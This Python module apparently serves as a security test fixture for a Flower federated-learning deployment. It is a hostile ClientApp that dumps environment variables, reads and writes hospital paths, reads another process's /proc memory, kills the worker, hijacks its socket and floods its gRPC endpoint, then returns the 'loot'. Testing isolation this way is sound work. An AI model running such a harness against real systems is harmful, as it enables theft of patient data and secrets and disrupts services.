"""What a dishonest coordinator might ship as the ClientApp: it tries everything, and tells what it got.

Three ways to run the same attempts (:func:`attack`):

* in a FAB: ``clientapp = "hostile_app:app"``; any query, train or evaluate message that carries the plan as JSON in
  ``content["attack"]["plan"]`` is answered with ``content["loot"]["json"]``, the text and all;
* as another account: ``python hostile_app.py UID:GID < plan.json > loot.json`` (from root), see :func:`run_as`;
* in this process: ``attack(plan)``.

A plan names paths of the hospital (``read``, ``write``), the worker's ``pid`` and ``socket``, and how many ``requests``
to make. What comes back says of each attempt ``"got ..."`` or ``"nothing: KIND OF ERROR"``. It needs gRPC and no
more, and nothing of this project: whoever writes such an app brings bytes of their own.
"""

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import grpc

PIECE = 1 << 20
ANSWER, STATUS = "/sarco.Worker/Answer", "/sarco.Worker/Status"

Plan = dict[str, Any]
Loot = dict[str, str]


def attack(plan: Plan) -> Loot:
    """Try everything; attempt -> outcome."""
    loot: Loot = {"environment": json.dumps(dict(os.environ)), "account": f"{os.getuid()}:{os.getgid()}"}
    for path in plan.get("read", []):
        loot[f"read {path}"] = outcome(lambda path=path: taken(Path(path)))
    for path in plan.get("write", []):
        loot[f"write {path}"] = outcome(lambda path=path: written(Path(path)))
    if plan.get("pid"):
        loot |= {f"{what} of the worker": outcome(do) for what, do in of_process(int(plan["pid"])).items()}
    if plan.get("socket"):
        loot |= {what: outcome(do) for what, do in at_socket(plan["socket"], plan).items()}
    return loot


def outcome(do: Callable[[], str]) -> str:
    try:
        return f"got {do()}"
    except grpc.RpcError as error:
        return f"nothing: {error.code().name} {error.details()}"
    except Exception as error:  # whatever stops it
        return f"nothing: {type(error).__name__}"


def taken(path: Path) -> str:
    """Names in a folder, or the beginning of a file."""
    return repr(sorted(path.iterdir()) if path.is_dir() else path.read_bytes()[:200])


def written(path: Path) -> str:
    if path.is_dir():
        path = path / "left-by-the-relay"
    with path.open("ab") as file:
        file.write(b"x")
    return str(path)


def of_process(pid: int) -> dict[str, Callable[[], str]]:
    """What another process shows of itself, and what can be done to it."""
    proc = Path("/proc") / str(pid)
    reads = {
        what: (lambda what=what: repr((proc / what).read_bytes()[:200])) for what in ("environ", "mem", "maps", "auxv")
    }
    looks = {what: (lambda what=what: repr((proc / what).readlink())) for what in ("cwd", "root", "exe", "fd/0")}
    return {
        **reads,
        **looks,
        "open files": lambda: repr(list((proc / "fd").iterdir())),
        "killing": lambda: repr(os.kill(pid, signal.SIGKILL)),
        "stopping": lambda: repr(os.kill(pid, signal.SIGSTOP)),
    }


def at_socket(place: str, plan: Plan) -> dict[str, Callable[[], str]]:
    """What may be tried at the worker's socket."""

    def replaced() -> str:
        Path(place).unlink()
        with socket.socket(socket.AF_UNIX) as own:
            own.bind(place)
        return "the socket"

    def noise() -> str:
        with socket.socket(socket.AF_UNIX) as own:
            own.settimeout(5)
            own.connect(place)
            with contextlib.suppress(OSError):
                own.sendall(os.urandom(100_000))
            return repr(own.recv(1000))

    request = bytes.fromhex(plan.get("request", ""))
    many = int(plan.get("requests", 0))
    return {
        "replacing the socket": replaced,
        "opening the socket to all": lambda: repr(Path(place).chmod(0o666)),
        "looking around the socket": lambda: repr(list(Path(place).parent.iterdir())),
        "noise": noise,
        "status": lambda: called(place, STATUS, [b""]),
        "garbage": lambda: called(place, ANSWER, framed(os.urandom(1000))),
        "an unknown method": lambda: called(place, "/sarco.Worker/Shell", [b"id"]),
        "another service": lambda: called(place, "/grpc.reflection.v1.ServerReflection/Info", [b""]),
        "a petabyte": lambda: called(place, ANSWER, [(10**15).to_bytes(8, "little"), *[bytes(PIECE)] * 200]),
        "one huge piece": lambda: called(place, ANSWER, [(10**8).to_bytes(8, "little"), bytes(10**8)]),
        "a request": lambda: called(place, ANSWER, framed(request)),
        "many requests": lambda: repr(sorted({called(place, ANSWER, framed(request)) for _ in range(many)})),
    }


def framed(message: bytes) -> list[bytes]:
    """As the worker's line takes it: the length, then pieces."""
    pieces = [message[start : start + PIECE] for start in range(0, len(message), PIECE)]
    return [len(message).to_bytes(8, "little"), *pieces]


def called(place: str, method: str, message: list[bytes]) -> str:
    """Text of the answer, without its vectors."""
    options = [("grpc.max_send_message_length", -1)]
    with grpc.insecure_channel(f"unix:{place}", options=options) as channel:
        answer = b"".join(channel.stream_stream(method)(iter(message), timeout=60))
    return answer.decode("utf-8", "replace")[:2000].replace("\x00", "").strip()


def run_as(plan: Plan, uid: int, gid: int, env: dict[str, str], cwd: Path) -> Loot:
    """The attempts of a process of another account, with this environment; the caller must be root."""
    done = subprocess.run(  # noqa: S603 - our own words
        [sys.executable, __file__, f"{uid}:{gid}"],
        input=json.dumps(plan), env=env, cwd=cwd, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    if done.returncode:
        raise RuntimeError(done.stderr)
    loot: Loot = json.loads(done.stdout)
    return loot


def _become(account: str) -> None:
    """Another account from here on, without a way back; what gRPC imports at its first call is imported before.

    Changed here, and not when the process is started: this Python may lie where the other account cannot read.
    """
    with contextlib.suppress(grpc.RpcError):
        called("/nowhere/worker.sock", STATUS, [b""])
    uid, gid = (int(number) for number in account.split(":"))
    os.setgroups([])
    os.setresgid(gid, gid, gid)
    os.setresuid(uid, uid, uid)


def app_of() -> Any:
    """The same as a ClientApp of Flower, which answers with all that it got."""
    from flwr.app import ConfigRecord, Context, Message, RecordDict
    from flwr.clientapp import ClientApp

    hostile = ClientApp()

    def respond(message: Message, _context: Context) -> Message:
        plan = json.loads(str(message.content["attack"]["plan"]))
        loot = json.dumps(attack(plan))
        return Message(RecordDict({"loot": ConfigRecord({"json": loot})}), reply_to=message)

    for register in (hostile.query, hostile.train, hostile.evaluate):
        register()(respond)
    return hostile


app = None if __name__ == "__main__" else app_of()
"""What Flower finds in a FAB; it looks for the name in the text before it imports anything."""


def got(loot: Loot) -> Iterator[str]:
    """Attempts that brought something."""
    return (what for what, found in loot.items() if found.startswith("got "))


if __name__ == "__main__":
    asked = json.loads(sys.stdin.read())
    _become(sys.argv[1])
    sys.stdout.write(json.dumps(attack(asked)))
    sys.stdout.flush()
    os._exit(0)  # gRPC's threads have been seen to keep a process whose account was changed from ending, for minutes
